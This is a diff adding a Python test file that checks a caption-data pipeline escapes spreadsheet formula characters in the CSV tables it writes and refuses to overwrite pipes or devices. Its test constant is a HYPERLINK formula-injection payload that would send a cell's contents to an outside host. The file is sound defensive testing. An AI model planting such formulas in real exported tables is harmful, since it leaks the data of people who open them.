@@ -1,0 +1,83 @@
+"""Words that a spreadsheet would run: marked in every table that is written, and read back as they were."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from core.spec.caption_files import Candidate, CaptionedPicture, CaptionFileError, CaptionTable, write_new
+from core.spec.cells import marked, marked_row, unmarked
+from core.data.sources.opening import open_source
+from core.evaluation.noise import JudgedPair, save_without, to_csv
+from core.spec.run.folder import write_whole
+from core.data.derived.noisy import write_noisy
+from tests.core.pictures import write_pairs
+
+LINK = '=HYPERLINK("http://example.org?"&A1,"a cat")'
+FIRST = "=+-@\t\r"
+
+
+@given(st.one_of(st.text(), st.text(alphabet="'=+-@\t\rx", max_size=6)))
+def test_marks_are_taken_off_again(text: str) -> None:
+    assert unmarked(marked(text)) == text
+    assert not marked(text).startswith(tuple(FIRST))
+
+
+def test_numbers_are_not_marked() -> None:
+    assert marked_row([-1.5, "-x", None, 3, "x"]) == [-1.5, "'-x", None, 3, "x"]
+
+
+@pytest.mark.parametrize("caption", [LINK, "+1", "-a dash", "@home", "'=quoted", "'tis a cat", "''=twice"])
+def test_a_caption_table_is_no_program_and_comes_back_as_it_was(caption: str, tmp_path: Path) -> None:
+    train, _ = write_pairs(tmp_path)
+    picture = open_source(train).rows[0].file
+    captioned = CaptionedPicture(picture, [Candidate(caption, -1.5, -0.25)], {"model": "=model"})
+    with CaptionTable(tmp_path / "table.csv") as table:
+        table.write(captioned)
+    with (tmp_path / "table.csv").open(newline="") as file:
+        row = next(iter(csv.DictReader(file)))
+    assert not row["title"].startswith(tuple(FIRST))
+    assert (row["model"], row["log_prob"]) == ("'=model", "-1.5")
+    again = open_source(tmp_path / "table.csv").rows[0]
+    assert again.captions == (caption,)
+    assert again.file == picture
+    assert again.labels["model"] == "=model"
+
+
+def test_other_tables_of_pairs_are_no_programs_either(tmp_path: Path) -> None:
+    train, _ = write_pairs(tmp_path)
+    lines = train.read_text().splitlines()
+    quoted = LINK.replace('"', '""')
+    cells = [f'{line.split(",")[0]},"{quoted} {place}",@home' for place, line in enumerate(lines[1:])]
+    train.write_text("\n".join(["filepath,title,+kind", *cells]) + "\n")
+    given_ = open_source(train).rows
+    save_without(str(train), [given_[0].file], tmp_path / "less.csv")
+    write_noisy(train, 0.2, 0, tmp_path / "noisy.csv", tmp_path / "kept.csv")
+    for name in ("less", "noisy", "kept"):
+        with (tmp_path / f"{name}.csv").open(newline="") as file:
+            table = list(csv.reader(file))
+        assert not [cell for row in table for cell in row if cell.startswith(tuple(FIRST))]
+        rows = open_source(tmp_path / f"{name}.csv").rows
+        assert {caption for row in rows for caption in row.captions} <= {row.captions[0] for row in given_}
+        assert {row.labels["+kind"] for row in rows} == {"@home"}
+    pair = JudgedPair(0, "/pictures/=x.png", LINK, 0.5, 0.5, 1, None)
+    assert next(iter(csv.DictReader(io.StringIO(to_csv([pair])))))["title"] == f"'{LINK}"
+
+
+def test_a_pipe_or_a_device_is_never_replaced_by_a_table(tmp_path: Path) -> None:
+    pipe = tmp_path / "pipe.csv"
+    os.mkfifo(pipe)
+    with pytest.raises(OSError, match="a pipe or a device"):
+        write_whole(pipe, b"x")
+    with pytest.raises(CaptionFileError, match="a pipe or a device"):
+        write_new(pipe, "x", force=True)
+    with pytest.raises(CaptionFileError, match="no file to write over"):
+        CaptionTable(pipe, force=True)
+    assert pipe.is_fifo()
+    assert [path.name for path in tmp_path.iterdir()] == ["pipe.csv"]
